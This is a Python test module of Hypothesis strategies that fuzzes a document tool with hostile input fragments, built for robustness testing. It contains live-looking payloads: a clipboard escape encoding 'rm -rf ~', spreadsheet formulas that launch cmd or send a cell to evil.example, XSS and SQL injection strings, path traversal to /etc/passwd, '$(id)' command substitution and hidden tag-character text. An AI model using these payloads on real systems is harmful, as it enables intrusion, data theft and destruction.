"""Hostile text: what commands a terminal, a spreadsheet, a browser, a database or a regular expression."""

from __future__ import annotations

from hypothesis import strategies as st

ESCAPES = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[?1049h", "\x1b[6n", "\x1b[c", "\x1b[21t", "\x1b[5i",
    "\x1b]0;a title\x07", "\x1b]2;a title\x1b\\", "\x1b]8;;http://evil.example/\x1b\\a link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b]1337;File=name=eA==:AA==\x07", "\x1b]4;1;?\x07", "\x1b]50;?\x07",
    "\x1bP+q544e\x1b\\", "\x1bP$q\"p\x1b\\", "\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1bX sos\x1b\\", "\x1bc", "\x1b#8",
    "\x1b(0", "\x1b%G", "\x1b", "\x1b[", "\x1b]", "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c", "\x9f\x9c", "\x85", "\x84",
    "\x1b[200~pasted\x1b[201~", "\x1b[<0;1;1M", "\x07" * 5, "a\rb", "a\x08\x08b", "\x0e\x0f", "\x05",
)  # fmt: skip
MARKUP = (
    "[bold]", "[/]", "[/bold]", "[b]x[/b]", "[@click=app.quit]x[/]", "[@click=app.bell()]y[/]", "[link=file:///etc]z[/]",
    "[red on blue]", "[#ff0000]", "[", "]", "[[", "\\[", "\\", "[sic]", "[/b", "$text", "$primary", "[$accent]", "{0}",
    "{x.__class__}", "%s", "%(x)s", "%n", ":smile:", "[blink]", "[not bold]", "[on $error]", "[1]", "[/]" * 50,
)  # fmt: skip
DIRECTIONS = (
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "\u202egpj.exe", "abc\u2067def\u2069", "\u202d" * 130, "\u2067" * 130, "שלום", "مرحبا",
)  # fmt: skip
UNSEEN = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2064", "\ufeff", "\u00ad", "\u034f", "\u115f", "\u3164",
    "\u180e", "\ufff9a\ufffab\ufffb", "\u2028", "\u2029", "\ufe0f", "\ufe00", "\U000e0100", "\U000e0001",
    "".join(chr(0xE0000 + ord(each)) for each in "ignore this"), "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "a" + "\u0300\u0301\u0302\u0303" * 40, "\u0e47" * 30, "\u20dd", "e\u0301",
)  # fmt: skip
CONTROLS = (
    "\0",
    "\x7f",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x1f",
    "\x1a",
    "\x04",
    "\t",
    "\n",
    "\r\n",
    "\r",
    "\x80",
)
SURROGATES = ("\ud800", "\udfff", "\udc80", "a\ud83d", "\udca9b")
WIDE = (
    "👩‍👩‍👧‍👦", "🇬🇧", "🇬", "👍🏽", "漢字" * 20, "ﷺ", "𒐫", "\ue000", "\U0010ffff", "\ufffe", "ａｂｃ", "ﾊﾟ", "ǆ", "ß", "İ", "ﬁ",
    "A" * 3000, "a " * 1500, "漢" * 2000, "\u0300" * 2000,
)  # fmt: skip
NUMBERS = (
    "Recommendation 99999999999999999999", "Recommendation 0", "Recommendation -1", "Recommendation ٣", "R²", "①",
    "Recommendation 1" + "0" * 400, "9" * 5000, "1e308", "1e999", "NaN", "inf", "-0", "0x10", "1_000", "½", "²", "٣",
    "Recommendation 1.1.1.1.1.1.1.1.1.1.1.1.1", "Recommendation IIIIIIIIIIIIIIIIIIIIII", "AFI 10000000000000000000000",
    "recommendations 1 to 999999999999", "recommendations 9–1", "Recommendations 1-2-3-4-5-6", "page 18446744073709551616",
)  # fmt: skip
DATES = (
    "31 February 9999", "0 January 0000", "29 February 2023", "1 May 0001", "31 December 9999", "32/13/2024",
    "10000-01-01", "2024-13-45", "99/99/9999", "within 99999999999999999999 days", "within 10000000 months",
    "by the end of 9999", "within 999999999 weeks", "today", "by 1 May 10000000000000", "1st of Mayember 2024",
    "٣ May 2024", "within −5 days", "within 0 months", "0001-01-01", "9999-12-31", "by 31 September 2024", "Q5 2024",
    "2024-01-01T00:00:00+99:99", "1 January 1970", "29/02/1900",
)  # fmt: skip
FORMULAS = (
    "=cmd|'/c calc'!A0", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", "﹦1", "﹢1", "﹣1", "﹫1",
    '=HYPERLINK("http://evil.example?"&A1)', " =1", "\u200b=1", "\ufeff=1", "\xa0=1", '"=1', "'=1", "=", "|", "%0A=1",
    "\0=1", "\x01=1", "−1", "٪", "=DDE()", '";=1', ",=1", ";=1",
)  # fmt: skip
PAGES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "javascript:alert(1)", "</td>",
    "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#0;", "&#x110000;", "&#xd800;", "&nbsp", "&amp;lt;", "<plaintext>",
    "<base href=//evil>", "<iframe srcdoc='x'>", "<style>*{}</style>", "<table><table>", "<p" * 50, "<?xml?>", "&x;" * 20,
)  # fmt: skip
QUERIES = (
    '"', '""', "'", "NEAR(a b, 5)", "a NEAR b", "NEAR", "AND", "OR", "NOT", "a AND", "*", "a*", "ab*", "^a", "text:a",
    "{text label}: a", "-a", "--", ";", "'; DROP TABLE annotation; --", '" OR 1=1 --', "(", ")", "((((", "))))", "a + b",
    "in:", "in:notes", "in:x", "report:", 'report:"', "body:", "status:", "status:none", "due<", "due<2024", "late>1",
    "late>9999999", "view:", "view:Overdue", "is:", "is:flagged", "voice:", "kind:", "link:", "judged:today-99999",
    "due:9999", "due>9999-12-31", "not not not", "or or", "|", "&", "“a”", "„", "%", "_", "\\", "\\\\", "a\\", '\\"', ":", "::",
    ":a", "<>", ">=", "=", "a=b", "search_passage:1", "rowid:1", "x'41'", "/*", "*/", "`", "[a]", "?", "?1", ":value1", "$a",
    "redefined", "alike", "alike:x", "silent", "text:", 'note:"', "evidence:''", "suggested:x", "region:none",
    "(" * 30, "-" * 30, "not " * 30, "a or " * 61, '"' * 61, "view:a view:b",
)  # fmt: skip
PATHS = (
    "../../outside.txt", "..\\..\\outside.txt", "/etc/passwd", "C:\\Windows\\x.txt", "\\\\server\\share\\x", "a:stream",
    "CON", "NUL.txt", "aux.docx", "COM1", "name.", "name ", " name", "....//x", "./.", "..", ".", "", "/", "//x", "~", "~root/x",
    "$HOME/x", "`id`", "$(id)", "-rf", "--help", "a" * 255 + ".txt", "漢" * 120 + ".txt", "a/" * 100 + "x", "x\0.txt", "a\nb.txt",
    "%2e%2e%2fx", "..%c0%af", "file:///etc/passwd", "\x1b[31m.txt", "\u202etxt.exe", "a\\b\\c", "con/nul", "./-o",
)  # fmt: skip
CATASTROPHES = (
    "a" * 400, "(" * 300, ")" * 300, " " * 3000 + "x", "\n" * 2000, "\t" * 500, "- " * 500, "* " * 500, "> " * 400, "#" * 400,
    "|" * 600, "| - " * 300, "1." * 500, "1 " * 800, "a. " * 400, "We accept " * 200, "Recommendation " * 200, "___" * 200,
    "**" * 300, "[" * 300, "![" * 150, "`" * 400, "~~~" * 100, "\\" * 500, "&" * 400, "<" * 400, "a" * 50 + "!" * 50,
    "no, " * 300, "and " * 400, "of the " * 300, "; " * 400, "Mr " * 300, "1 May " * 200, "by " * 300, "(i)(ii)" * 100,
    "A" * 30 + " " + "B" * 30, "…" * 300, ". " * 500, "--" * 400, "===\n" * 100, "“" * 300, "x@" * 200, "http://" * 100,
)  # fmt: skip

FRAGMENTS = (
    *ESCAPES, *MARKUP, *DIRECTIONS, *UNSEEN, *CONTROLS, *SURROGATES, *WIDE, *NUMBERS, *DATES, *FORMULAS, *PAGES, *QUERIES,
    *PATHS, *CATASTROPHES,
)  # fmt: skip
WORDS = (
    "the force", "accept", "recommendation", "Recommendation 1", "partly", "vetting", "we", "Chief Constable", "response",
    "by 1 May 2024", "not", "report", "body", "and", "1", "2.", "a", "Northmoor", "Police", "commissioner",
)  # fmt: skip

EXPECTED_DIRTY = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def fragments() -> st.SearchStrategy[str]:
    """Give one piece: a known trick, a plain word of the field, or any characters at all."""
    return st.one_of(
        st.sampled_from(FRAGMENTS), st.sampled_from(FRAGMENTS), st.sampled_from(WORDS), st.text(max_size=12)
    )


def hostile(most: int = 8, surrogates: bool = True) -> st.SearchStrategy[str]:
    """Give a text of up to `most` pieces; `surrogates`: half of a pair may stand in it, which no file can hold."""

    def joined(pieces: list[str], gap: str) -> str:
        text = gap.join(pieces)
        return text if surrogates else text.encode("utf-8", "replace").decode()

    made = st.builds(joined, st.lists(fragments(), max_size=most), st.sampled_from(["", " ", "\n", "\n\n"]))
    if surrogates:
        odd = st.text(st.characters(), max_size=40)
        return st.one_of(made, made, made, odd)
    return made


def lines(most: int = 4) -> st.SearchStrategy[str]:
    """Give hostile text that a file can hold, on one line of a document."""
    return hostile(most, surrogates=False).map(lambda text: text.replace("\n", " ").replace("\r", " "))
